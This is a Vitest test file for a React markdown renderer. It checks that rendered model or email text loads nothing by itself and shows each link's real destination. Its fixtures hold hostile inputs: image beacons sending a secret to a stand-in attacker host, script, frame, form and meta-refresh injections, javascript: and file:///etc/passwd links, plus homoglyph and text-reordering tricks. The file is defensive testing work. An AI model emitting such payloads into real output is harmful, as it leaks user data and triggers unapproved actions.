import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import MarkdownRendered from './MarkdownRendered';

const render = (markdown: string) => renderToStaticMarkup(<MarkdownRendered>{markdown}</MarkdownRendered>);

/** Everything in HTML by which a browser loads something by itself. */
const loads = /<(img|image|svg|iframe|frame|object|embed|link|script|style|video|audio|source|track|base|meta|form|input|picture|portal)\b|\b(src|srcset|poster|background|data|ping|formaction|style|on\w+)\s*=(?!"color:)|url\(/i;

describe('what a model or a mail writes is shown without anything that acts by itself', () => {
  const attacks = {
    image: '![x](https://evil.example/?d=SECRET)',
    'reference image': '![x][r]\n\n[r]: https://evil.example/?d=SECRET',
    'image in a link': '[![x](https://evil.example/a.png)](https://evil.example)',
    'image by data': '![x](data:image/svg+xml;base64,PHN2Zz4=)',
    'HTML image': '<img src="https://evil.example/?d=SECRET">',
    'HTML in a line': 'Hello <img src=x onerror=alert(1)> there',
    'svg': '<svg><image href="https://evil.example/x"/></svg>',
    'style': '<style>body{background:url(https://evil.example/x)}</style>',
    'prefetch': '<link rel="prefetch" href="https://evil.example/x">',
    'ping': '<a href="https://good.example" ping="https://evil.example/x">x</a>',
    'script': '<script>fetch("https://evil.example")</script>',
    'frame': '<iframe src="https://evil.example"></iframe>',
    'meta': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    'form': '<form action="https://evil.example"><button>Approve</button></form>',
    'javascript link': '[x](javascript:alert(1))',
    'javascript link, encoded': '[x](java&#x73;cript:alert(1))',
    'javascript autolink': '<javascript:alert(1)>',
    'data link': '[x](data:text/html;base64,PHNjcmlwdD4=)',
    'vbscript link': '[x](vbscript:x)',
    'file link': '[x](file:///etc/passwd)',
    'relative link': '[Approve](/api/v1/approvals/1/approve)',
    'comment': '<!-- ![x](https://evil.example) -->',
    'task list': '- [ ] [x](https://evil.example)',
  };
  for (const [name, markdown] of Object.entries(attacks))
    it(name, () => {
      const html = render(markdown).replace(/ style="color:[^"]*"/g, '');
      expect(html).not.toMatch(loads);
      for (const [, href] of html.matchAll(/href="([^"]*)"/g)) expect(href).toMatch(/^(https?:|mailto:)/);
    });

  it('this test can fail', () => {
    expect('<img src="x">').toMatch(loads);
    expect('<a href="x" ping="y">').toMatch(loads);
  });
});

describe('a link shows where it goes', () => {
  it('beside words that say something else', () => {
    expect(render('[click to sign in again](https://evil.example/?q=1)')).toContain('(evil.example)');
    expect(render('[https://bank.example](https://evil.example)')).toContain('(evil.example)');
    expect(render('[**bank.example**](https://bank.example@evil.example)')).toContain('(evil.example)');
    expect(render('[bank](https://\u0430pple.com)')).toContain('(xn--');
  });
  it('and not twice when the words are the address', () => expect(render('<https://good.example/>')).not.toContain('('));
  it('and opens nothing that knows where it came from', () => expect(render('[x](https://good.example)')).toContain('rel="noopener noreferrer nofollow"'));
  it('and cannot be turned around by characters that reorder text', () => expect(render('[\u202Emoc.live\u202C](https://evil.example) \u{E0041}')).not.toMatch(/[\u202A-\u202E\u{E0000}-\u{E0FFF}]/u));
});
